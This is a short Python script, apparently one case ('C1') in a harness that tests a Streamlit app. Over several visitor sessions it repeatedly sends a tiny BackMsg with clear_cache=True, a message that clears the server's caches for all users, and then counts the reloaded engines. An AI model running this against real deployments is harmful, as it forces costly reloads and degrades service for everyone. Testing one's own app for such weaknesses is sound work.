"""C1: a message of a few bytes that clears Streamlit's caches for everybody."""

from streamlit.proto.BackMsg_pb2 import BackMsg

from scripts.attack.target import Outcome, Target, watching

MESSAGES = 4


async def attempt(target: Target, messages: int = MESSAGES) -> Outcome:
    """Send it several times, with a visit to the Train page after each."""
    async with watching(target) as watched:
        for _ in range(messages):
            async with target.newcomer("train") as visitor:
                await visitor.wait_for(lambda _: bool(target.engines()), 60)
                await visitor.send(BackMsg(clear_cache=True))
                await visitor.go("train")
    engines = len(target.engines())
    return Outcome(engines == 1, f"{messages} messages, {engines} engine; {watched}")
